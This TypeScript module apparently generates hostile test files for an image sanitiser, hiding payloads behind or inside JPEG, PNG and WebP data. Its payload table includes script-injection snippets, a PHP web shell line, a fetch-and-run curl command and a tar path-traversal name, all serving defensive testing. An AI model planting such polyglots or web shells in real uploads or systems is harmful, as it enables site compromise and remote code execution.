import { either, type HostileFile, refused } from "./hostile-file.ts";
import { EOI, segment, withSegments } from "./jpeg.ts";
import { chunk, withChunks } from "./png.ts";
import { HEIGHT, type Seeds, WIDTH } from "./seeds.ts";
import { canvas, codedPart, riffChunk, webpOf } from "./webp.ts";
import { zipOf } from "./zip.ts";

/** Something else that the same bytes are to somebody else. Behind a picture or in its parts, none of it may be in what is stored for use. */
export const PAYLOADS: Readonly<Record<string, Buffer>> = {
  zip: zipOf([["index.html", Buffer.from("<script>alert(1)</script>")]]),
  jar: zipOf([
    ["META-INF/MANIFEST.MF", Buffer.from("Main-Class: Evil\n")],
    ["Evil.class", Buffer.from("\xca\xfe\xba\xbe", "latin1")],
  ]),
  HTML: Buffer.from("<html><script>alert(document.domain)</script><!--"),
  SVG: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  PDF: Buffer.from("%PDF-1.7\n1 0 obj\n<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>\nendobj\n%%EOF"),
  PHP: Buffer.from("<?php system($_GET['c']); __halt_compiler(); ?>"),
  JavaScript: Buffer.from("*/=alert('polyglot')/*"),
  shell: Buffer.from("\n#!/bin/sh\ncurl http://example.org/a.sh | sh\n"),
  ELF: Buffer.from("\x7fELF\x02\x01\x01\0polyglot program", "latin1"),
  GIF: Buffer.from("GIF89a\x01\0\x01\0\x80\0\0polyglot picture;", "latin1"),
  tar: Buffer.concat([Buffer.from("../../polyglot.sh".padEnd(257, "\0")), Buffer.from("ustar\0")]),
  XMP: Buffer.from("<?xpacket begin=''?><x:xmpmeta xmlns:x='adobe:ns:meta/'>polyglot packet</x:xmpmeta>"),
};

/** Files that are a picture and something else: behind it, within it, before it. */
export function polyglots({ jpeg, png, webp }: Seeds): HostileFile[] {
  return Object.entries(PAYLOADS).flatMap(([name, payload]) => [
    either(`a JPEG and ${name} behind it`, Buffer.concat([jpeg.jpeg, payload])),
    either(`a progressive JPEG and ${name} behind it`, Buffer.concat([jpeg.progressive, payload])),
    either(`a JPEG and ${name} in its comment`, withSegments(jpeg.jpeg, segment(0xfe, payload))),
    either(`a JPEG and ${name} in a segment nobody reads`, withSegments(jpeg.jpeg, segment(0xea, payload))),
    either(
      `a JPEG and ${name} between its pixels and its end`,
      Buffer.concat([jpeg.jpeg.subarray(0, -2), payload, EOI]),
    ),
    either(`a PNG and ${name} behind it`, Buffer.concat([png.png, payload])),
    either(`a PNG and ${name} in its text`, withChunks(png.png, chunk("tEXt", Buffer.from("Comment\0"), payload))),
    either(`a PNG and ${name} in a chunk nobody reads`, withChunks(png.png, chunk("prVt", payload))),
    either(`a WebP and ${name} behind it`, Buffer.concat([webp.lossy, payload])),
    either(
      `a WebP and ${name} in a chunk nobody reads`,
      webpOf(canvas(WIDTH, HEIGHT), codedPart(webp.lossless), riffChunk("prVt", payload)),
    ),
    refused(`${name} and a JPEG behind it`, Buffer.concat([payload, jpeg.jpeg])),
    refused(`${name} and a PNG behind it`, Buffer.concat([payload, png.png])),
    refused(`${name} and a WebP behind it`, Buffer.concat([payload, webp.lossy])),
    refused(`a JPEG's beginning and ${name}`, Buffer.concat([jpeg.jpeg.subarray(0, 4), payload])),
    refused(`a PNG's beginning and ${name}`, Buffer.concat([png.png.subarray(0, 8), payload])),
    refused(`a WebP's beginning and ${name}`, Buffer.concat([webp.lossy.subarray(0, 12), payload])),
  ]);
}
